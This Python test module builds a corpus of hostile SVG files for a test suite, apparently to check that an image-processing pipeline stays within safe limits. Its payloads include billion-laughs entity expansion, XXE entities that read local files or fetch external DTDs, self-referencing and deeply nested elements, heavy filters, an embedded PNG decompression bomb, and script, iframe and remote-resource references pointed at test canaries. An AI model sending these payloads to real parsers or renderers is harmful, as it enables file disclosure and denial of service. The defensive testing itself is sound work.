"""SVG, where the installation reads it: a program for drawing, which may run for ever or reach for what is not its."""

import base64
from collections.abc import Callable, Iterator
from typing import Any, Final

from tests.hostile.corpus.pictures import ihdr, pack_zeros, png
from tests.hostile.corpus.reaching import write_svg
from tests.hostile.hostile import COMPLETED, Hostile, Outcome, Stage, describe, failed
from tests.hostile.seeds import SVG_HEAD

_CORRUPT: Final = failed("corrupt_file")
_PIXELS: Final = failed("too_many_pixels")
_BOUNDED: Final = COMPLETED | _CORRUPT | failed("memory_limit", "time_limit", "too_many_pixels")
"""For what no header tells: drawn after all, or ended by a limit on work."""


def list_files() -> Iterator[Hostile]:
    yield from _list_sizes()
    yield from _list_entities()
    yield from _list_deep()
    yield from _list_costly()
    yield from _list_reaching()


def _drawing(what: str, outcome: Outcome, content: Callable[[Stage], bytes] | bytes, **more: Any) -> Hostile:
    return describe("svg", what, outcome, content, task_type="image", reads_svg=True, **more)


def svg(inner: bytes, *, before: bytes = b"") -> bytes:
    """Put a drawing of 96 x 64 together; `before` stands before its root."""
    return b'<?xml version="1.0"?>' + before + SVG_HEAD + inner + b"</svg>"


def _sized(width: bytes, height: bytes, more: bytes = b"") -> bytes:
    head = b'<svg xmlns="http://www.w3.org/2000/svg" width="%s" height="%s" %s>' % (width, height, more)
    return head + b'<rect width="100%" height="100%" fill="red"/></svg>'


def _list_sizes() -> Iterator[Hostile]:
    for what, width, height, outcome in (
        ("sides of 30,000", b"30000", b"30000", _PIXELS),
        ("sides of 2^31 - 1", b"2147483647", b"2147483647", _PIXELS | _CORRUPT),
        ("sides of 10^38", b"1e38", b"1e38", _PIXELS | _CORRUPT),
        ("sides of a kilometre", b"100000cm", b"100000cm", _PIXELS | _CORRUPT),
        ("a width of 99 megapixels", b"99000000", b"1", _CORRUPT | failed("invalid_options")),  # PNG can't be so wide
        ("sides of nothing", b"0", b"0", COMPLETED | _CORRUPT),
        ("sides below nothing", b"-5", b"-5", COMPLETED | _CORRUPT),
        ("sides that are no numbers", b"NaN", b"infinity", COMPLETED | _CORRUPT),
        ("sides in parts of nothing", b"1e-30", b"1e-30", COMPLETED | _CORRUPT),
    ):
        yield _drawing(what, outcome, _sized(width, height))
    wide = b'viewBox="0 0 1e30 1"'
    yield _drawing("a view of 10^30 to 1", COMPLETED | _CORRUPT | _PIXELS, _sized(b"100%", b"100%", wide))
    yield _drawing(
        "no sides, and a view of 10^9",
        COMPLETED | _CORRUPT | _PIXELS,
        b'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1e9 1e9"><rect width="9" height="9"/></svg>',
    )


# --- entities ---
def _list_entities() -> Iterator[Hostile]:
    laughs = b'<!ENTITY a "ha">' + b"".join(b'<!ENTITY %c "%s">' % (98 + n, b"&%c;" % (97 + n) * 10) for n in range(10))
    for where, inner in (("its text", b"<text>&k;</text>"), ("an attribute", b'<rect width="9" height="9" id="&k;"/>')):
        yield _drawing(
            f"a billion laughs in {where}",
            _CORRUPT | failed("memory_limit"),
            svg(inner, before=b"<!DOCTYPE svg [%s]>" % laughs),
        )
    long = b'<!ENTITY a "%s">' % (b"x" * 5000)
    yield _drawing(
        "one long entity named 100,000 times",
        _CORRUPT | failed("memory_limit", "time_limit"),
        svg(b"<desc>" + b"&a;" * 100_000 + b"</desc>", before=b"<!DOCTYPE svg [%s]>" % long),
    )
    yield _drawing(
        "an entity that names itself",
        _CORRUPT | COMPLETED,
        svg(b"<text>&a;</text>", before=b'<!DOCTYPE svg [<!ENTITY a "&b;"><!ENTITY b "&a;">]>'),
    )

    def reach(stage: Stage) -> bytes:
        declared = f'<!ENTITY f SYSTEM "file://{stage.canary_file}"><!ENTITY h SYSTEM "{stage.canary_url}/entity">'
        return svg(b"<text>&f;&h;</text>", before=f"<!DOCTYPE svg [{declared}]>".encode())

    def reach_by_parameter(stage: Stage) -> bytes:
        declared = f'<!ENTITY % p SYSTEM "{stage.canary_url}/declared.dtd"> %p;'
        return svg(b"<text>x</text>", before=f"<!DOCTYPE svg [{declared}]>".encode())

    def reach_by_type(stage: Stage) -> bytes:
        return svg(b"<text>x</text>", before=f'<!DOCTYPE svg SYSTEM "{stage.canary_url}/svg.dtd">'.encode())

    yield _drawing("entities of a file and a host", COMPLETED | _CORRUPT, reach)
    yield _drawing("declarations from a host", COMPLETED | _CORRUPT, reach_by_parameter)
    yield _drawing("a document type from a host", COMPLETED | _CORRUPT, reach_by_type)


# --- depth and number ---
def _list_deep() -> Iterator[Hostile]:
    for depth in (200, 100_000):
        yield _drawing(
            f"{depth:,} groups in one another",
            COMPLETED | _CORRUPT | (failed("too_deeply_nested") if depth > 200 else COMPLETED),
            svg(b"<g>" * depth + b'<rect width="9" height="9"/>' + b"</g>" * depth),
        )
    yield _drawing("100,000 groups that are never closed", _CORRUPT, SVG_HEAD + b"<g>" * 100_000)
    yield _drawing(
        "2,000 drawings in one another, clipped each",
        _BOUNDED,
        svg(b'<svg width="99%" height="99%" opacity="0.9">' * 2000 + b"</svg>" * 2000),
        within_seconds=30.0,
    )
    yield _drawing("1,200,000 shapes", _BOUNDED, svg(b'<rect width="1"/>' * 1_200_000), within_seconds=30.0)
    yield _drawing("an attribute of 20 MiB", COMPLETED | _CORRUPT, svg(b'<g id="%s"/>' % (b"x" * 20 * 1024**2)))
    path = b"M0 0" + b"C1 2 3 4 5 6" * 100_000
    yield _drawing(
        "a path of 100,000 curves", _BOUNDED, svg(b'<path d="%s" stroke="red"/>' % path), within_seconds=60.0
    )
    yield _drawing("numbers beyond all bounds", COMPLETED | _CORRUPT, svg(b'<circle r="1e999" cx="-1e999"/>'))
    yield _drawing("bytes that are no UTF-8", _CORRUPT, svg(b"<desc>\xff\xfe\xc3\x28</desc>"))
    yield _drawing("a control character", _CORRUPT, svg(b"<desc>&#0;&#27;</desc>"))


# --- what takes time or memory ---
def _list_costly() -> Iterator[Hostile]:
    link = b'<use xlink:href="#%s"/>'
    doubled = b"".join(b'<g id="g%d">%s</g>' % (n, link % (b"g%d" % (n - 1)) * 2) for n in range(1, 30))
    yield _drawing(
        "29 levels that each use the one below twice",
        _BOUNDED,
        svg(b'<defs><g id="g0"><rect width="1" height="1"/></g>%s</defs>' % doubled + link % b"g29"),
        within_seconds=30.0,
    )
    yield _drawing("a use of itself", COMPLETED | _CORRUPT, svg(b'<g id="a">%s</g>' % (link % b"a")))
    yield _drawing(
        "two that use each other",
        COMPLETED | _CORRUPT,
        svg(b'<g id="a">%s</g><g id="b">%s</g>' % (link % b"b", link % b"a")),
    )
    for what, element in {
        "a pattern painted with itself": b'<pattern id="p" width="1" height="1"><rect width="9" height="9" '
        b'fill="url(#p)"/></pattern><rect width="96" height="64" fill="url(#p)"/>',
        "a mask masked by itself": b'<mask id="p"><rect width="9" height="9" mask="url(#p)"/></mask>'
        b'<rect width="96" height="64" mask="url(#p)"/>',
        "a clip clipped by itself": b'<clipPath id="p" clip-path="url(#p)"><rect width="9" height="9"/></clipPath>'
        b'<rect width="96" height="64" clip-path="url(#p)"/>',
        "a gradient that goes on in itself": b'<linearGradient id="p" xlink:href="#p"/>'
        b'<rect width="96" height="64" fill="url(#p)"/>',
        "a marker marked with itself": b'<marker id="p"><path d="M0 0L9 9" marker-start="url(#p)"/></marker>'
        b'<path d="M0 0L9 9" marker-start="url(#p)"/>',
        "a picture of itself": b'<image id="p" width="9" height="9" xlink:href="#p"/>'
        b'<filter id="f"><feImage xlink:href="#u"/></filter><g id="u" filter="url(#f)"><rect width="9"/></g>',
    }.items():
        yield _drawing(what, COMPLETED | _CORRUPT, svg(element))
    yield from _list_filters()
    yield _drawing(
        "a pattern of 10^12 tiles",
        _BOUNDED,
        svg(
            b'<pattern id="p" width="0.000001" height="0.000001" patternUnits="userSpaceOnUse"><rect/></pattern>'
            b'<rect width="96" height="64" fill="url(#p)"/>'
        ),
        within_seconds=60.0,
    )
    yield _drawing(
        "a line of 10^9 dashes",
        _BOUNDED,
        svg(b'<path d="M0 0 L1e9 1e9" stroke="red" stroke-dasharray="0.5 0.5"/>'),
        within_seconds=150.0,
    )


def _list_filters() -> Iterator[Hostile]:
    def filtered(steps: bytes, area: bytes = b'x="0" y="0" width="1" height="1"') -> bytes:
        return svg(b'<filter id="f" %s>%s</filter><rect width="96" height="64" filter="url(#f)"/>' % (area, steps))

    huge = b'filterUnits="userSpaceOnUse" x="-1e9" y="-1e9" width="2e9" height="2e9"'
    for what, steps, area in (
        ("a blur over 10^9", b'<feGaussianBlur stdDeviation="1e9"/>', huge),
        ("a morphology of 10^9", b'<feMorphology operator="dilate" radius="1000000000"/>', huge),
        ("a matrix of 10^6 numbers", b'<feConvolveMatrix order="1000" kernelMatrix="%s"/>' % (b"1 " * 1_000_000), b""),
        ("noise of 10^9 octaves", b'<feTurbulence baseFrequency="0.5" numOctaves="1000000000"/>', b""),
        ("3,000 blurs one after another", b'<feGaussianBlur stdDeviation="20"/>' * 3000, b""),
        (
            "light of 10^300",
            b'<feDiffuseLighting surfaceScale="1e300"><fePointLight x="1e300"/></feDiffuseLighting>',
            b"",
        ),
    ):
        yield _drawing(f"a filter: {what}", _BOUNDED, filtered(steps, area), within_seconds=150.0)


def endless_drawing(side: int) -> bytes:
    """Put a drawing together that takes a decoder minutes, the longer the larger it is."""
    blurs = b'<filter id="f">%s</filter>' % (b'<feGaussianBlur stdDeviation="20"/>' * 3000)
    return b'<svg xmlns="http://www.w3.org/2000/svg" width="%d" height="%d">%s%s</svg>' % (
        *(side, side, blurs),
        b'<rect width="100%" height="100%" filter="url(#f)"/>',
    )


# --- reaching out ---
def _list_reaching() -> Iterator[Hostile]:
    yield _drawing("a file, a host, a script and an entity", COMPLETED | _CORRUPT, write_svg)

    def reach(element: str) -> Callable[[Stage], bytes]:
        def content(stage: Stage) -> bytes:
            words = {
                "{picture}": str(stage.canary_picture),
                "{file}": str(stage.canary_file),
                "{url}": stage.canary_url,
            }
            text = element
            for word, value in words.items():
                text = text.replace(word, value)
            return svg(text.encode())

        return content

    for what, element in {
        "pictures by path and by address": '<image width="96" height="64" xlink:href="file://{picture}"/>'
        '<image width="96" height="64" href="{picture}"/><image width="96" height="64" href="{url}/picture.png"/>',
        "a picture beside it": '<image width="96" height="64" href="../../stage0/canary.png"/>'
        '<image width="96" height="64" href="canary.png"/>',
        "a part of another drawing": '<use href="file://{file}#a"/><use xlink:href="{url}/drawing.svg#a"/>',
        "styles from a host": '<style>@import url("{url}/style.css"); rect{fill:url("{url}/fill.svg#a")}</style>'
        '<rect width="96" height="64"/>',
        "a font from a host": '<style>@font-face{font-family:x;src:url("{url}/font.woff")}</style>'
        '<text y="30" font-family="x">The mill</text>',
        "a text from a file": '<tref xlink:href="file://{file}"/><xi:include '
        'xmlns:xi="http://www.w3.org/2001/XInclude" href="{file}" parse="text"/>',
        "a filter's picture from a file": '<filter id="f"><feImage href="file://{picture}"/></filter>'
        '<rect width="96" height="64" filter="url(#f)"/>',
        "scripts, events and frames": '<script>fetch("{url}")</script><rect width="9" height="9" onload="x()"/>'
        '<foreignObject width="96" height="64"><iframe xmlns="http://www.w3.org/1999/xhtml" src="{url}/frame"/>'
        "</foreignObject><a href=\"javascript:alert(1)\"><rect width='9' height='9'/></a>",
        "data of another drawing that reaches": '<image width="96" height="64" href="data:image/svg+xml,%3Csvg '
        "xmlns='http://www.w3.org/2000/svg'%3E%3Cimage href='file://{picture}' width='96' height='64'/%3E"
        '%3C/svg%3E"/>',
    }.items():
        yield _drawing(what, COMPLETED | _CORRUPT, reach(element))
    style = b'<?xml-stylesheet href="%s/style.css" type="text/css"?>'
    yield _drawing(
        "a stylesheet named before it",
        COMPLETED | _CORRUPT,
        lambda stage: svg(b'<rect width="9" height="9"/>', before=style % stage.canary_url.encode()),
    )
    yield _drawing(
        "a picture of 900 megapixels within it",
        _BOUNDED,
        lambda _stage: svg(_embed_bomb()),
        within_seconds=30.0,
    )


def _embed_bomb() -> bytes:
    bomb = png(ihdr(30_000, 30_000, depth=1, colours=0), (b"IDAT", pack_zeros(30_000 * 3751)), (b"IEND", b""))
    data = base64.b64encode(bomb)
    return b'<image width="96" height="64" xlink:href="data:image/png;base64,%s"/>' % data
